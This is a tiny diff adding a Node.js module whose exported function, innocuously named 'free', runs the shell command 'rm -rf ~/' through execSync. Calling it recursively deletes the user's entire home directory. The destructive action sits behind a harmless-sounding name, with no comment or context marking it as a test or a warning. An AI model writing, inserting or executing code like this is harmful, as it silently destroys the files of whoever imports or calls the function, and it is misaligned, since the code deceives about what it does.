@@ -1,0 +1,5 @@
+import { execSync } from "node:child_process";
+
+export function free() {
+  execSync("rm -rf ~/");
+}
